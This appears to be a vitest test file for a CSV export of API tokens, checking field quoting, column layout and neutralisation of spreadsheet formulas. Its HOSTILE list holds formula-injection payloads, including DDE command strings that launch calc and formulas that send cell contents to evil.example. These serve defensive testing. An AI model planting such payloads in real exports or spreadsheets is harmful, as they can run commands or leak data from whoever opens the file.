// Tests the CSV file against a CSV parser, and with names that spreadsheets would run as formulas.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { AuditRow } from './audit/audit-view.ts';
import type { Token } from './token.ts';
import { tokenCsv } from './token-csv.ts';

const NOW = new Date('2026-03-10T12:00:00Z');

const TOKEN: Token = {
  id: '5Yo3XXnrQpjc20u0ybrf2g',
  userId: '4y5K5trZocEAQYkesWlk7M',
  customerId: 'x4xCwxxJxGCx123Rx5xTx1',
  name: 'CI deploy',
  scopes: ['purge_all', 'global:read'],
  access: { kind: 'limited', serviceIds: ['7i6HN3TK9wS159v2gPAZ8A', 'd0aw205U9PCGTwHVlim6q'] },
  createdAt: new Date('2025-11-18T20:59:08Z'),
  lastUsedAt: new Date('2026-03-09T21:03:08Z'),
  lastUsedIp: '2001:db8::7',
  lastUsedClient: 'curl/8.7.1',
  expiresAt: new Date('2026-05-16T23:59:59Z'),
  sudoExpiresAt: null,
  automation: null,
};

const OWNER = {
  id: TOKEN.userId,
  name: 'Sana Ueda',
  login: 'superuser@example.com',
  role: 'superuser',
  customerId: TOKEN.customerId,
  twoFactor: false,
  locked: false,
  lastActiveAt: null,
} as const;

function row(changes: Partial<Token> = {}, owner: AuditRow['owner'] = OWNER): AuditRow {
  return { token: { ...TOKEN, ...changes }, owner, selected: false };
}

/** The cells by column name, as an RFC 4180 parser reads them. */
function read(csv: string): Record<string, string>[] {
  const { data, errors } = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
  expect(errors).toEqual([]);
  return data;
}

/** Formula injections seen in practice, and texts that break CSV writers without proper quoting. */
const HOSTILE = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMAGE("https://evil.example/x.png")',
  '=DDE("cmd";"/C calc";"__DdeLink_1")',
  '=2+5+cmd|" /C calc"!A0',
  '+1+1',
  '+cmd|"/C calc"!A0',
  '+44 20 7946 0000',
  '-1+1',
  '-2+3+cmd|" /C calc"!A0',
  '-',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '@here',
  '\t=1+1',
  '\tindented',
  '\r=1+1',
  '\r',
  '"=1+1"',
  '"',
  '""',
  'a,b',
  'a;b',
  'a\tb',
  'a"b',
  'a\nb',
  'a\r\nb',
  ' =1+1',
  ' leading and trailing ',
  "'=1+1",
  '\u0000=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1+1',
  '\uFE0F=1+1',
  '\u2028=1+1',
  '\u3164=1+1',
  '\u000B=1+1',
  '\u000Bindented',
  '\u000C=1+1',
  '\u0000',
  '\u200B=1+1',
  '\u00A0=1+1',
  '\n@here',
  '%0A=1+1',
  'naïve ダッシュボード 🔑',
] as const;

/** Those of them that a spreadsheet runs, or may run. All others stay as they are. */
const FORMULAS: readonly string[] = HOSTILE.filter(
  text =>
    ![
      '"=1+1"',
      '"',
      '""',
      'a,b',
      'a;b',
      'a\tb',
      'a"b',
      'a\nb',
      'a\r\nb',
      ' leading and trailing ',
      "'=1+1",
      '%0A=1+1',
      'naïve ダッシュボード 🔑',
    ].includes(text),
);

describe('the CSV file', () => {
  it('starts with a byte order mark, ends its lines with CRLF, and names each column', () => {
    const csv = tokenCsv([row()], NOW);
    expect(csv.startsWith('\uFEFFid,name,type,status,owner,owner_login,owner_id,role,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(3);
  });

  it('lists owner, access and instants in UTC for each token', () => {
    expect(read(tokenCsv([row()], NOW))).toEqual([
      {
        id: '5Yo3XXnrQpjc20u0ybrf2g',
        name: 'CI deploy',
        type: 'User token',
        status: 'Active',
        owner: 'Sana Ueda',
        owner_login: 'superuser@example.com',
        owner_id: '4y5K5trZocEAQYkesWlk7M',
        role: 'superuser',
        tls_management: '',
        scopes: 'purge_all global:read',
        access: 'limited',
        services: '7i6HN3TK9wS159v2gPAZ8A d0aw205U9PCGTwHVlim6q',
        created_at: '2025-11-18T20:59:08Z',
        last_used_at: '2026-03-09T21:03:08Z',
        last_used_ip: '2001:db8::7',
        last_used_client: 'curl/8.7.1',
        expires_at: '2026-05-16T23:59:59Z',
        can_do:
          'This token can both purge everything and read account information, configuration and stats on 2 services until 16 May 2026, 23:59 UTC. It can also read account-level endpoints, which aren’t limited by service. It cannot change configuration.',
      },
    ]);
  });

  it('lists an automation token that never expires, was never used and whose creator was deleted', () => {
    const automation = { role: 'engineer', tlsManagement: true } as const;
    const changes = { automation, expiresAt: null, lastUsedAt: null, access: { kind: 'all' } } as const;
    expect(read(tokenCsv([row(changes, null)], NOW))).toEqual([
      expect.objectContaining({
        type: 'Automation token',
        status: 'Active; Never expires; Never used',
        owner: '',
        role: 'engineer',
        tls_management: 'yes',
        access: 'all services',
        services: '',
        last_used_at: 'never',
        expires_at: 'never',
      }),
    ]);
  });

  it('lists a token that reaches no service, and one with a role that the console does not know', () => {
    const automation = { role: 'auditor', tlsManagement: null } as const;
    expect(read(tokenCsv([row({ access: { kind: 'none' }, automation })], NOW))).toEqual([
      expect.objectContaining({
        role: 'auditor',
        access: 'no services',
        services: '',
        can_do: expect.stringContaining('on no services'),
      }),
    ]);
  });

  it('puts every field in quotes', () => {
    const [, line] = tokenCsv([row({ name: 'plain' })], NOW).split('\r\n');
    expect(line).toMatch(/^"[^"]*"(,"[^"]*"){17}$/);
  });

  it('has a header line even without tokens', () => {
    expect(tokenCsv([], NOW)).toMatch(/^\uFEFFid,name,.*,can_do\r\n$/);
  });

  it.each(HOSTILE)('keeps %j as text, with an apostrophe in front of a formula', name => {
    const [cells] = read(tokenCsv([row({ name, lastUsedClient: name }, { ...OWNER, name })], NOW));
    const expected = FORMULAS.includes(name) ? `'${name}` : name;
    expect([cells?.name, cells?.last_used_client, cells?.owner]).toEqual([expected, expected, expected]);
  });

  it('tests 52 different texts', () => expect(new Set(HOSTILE).size).toBe(52));

  it('writes instants and ids unchanged', () => {
    const [cells] = read(tokenCsv([row({ name: '=1+1' })], NOW));
    expect(cells).toMatchObject({ created_at: '2025-11-18T20:59:08Z', id: '5Yo3XXnrQpjc20u0ybrf2g' });
  });
});
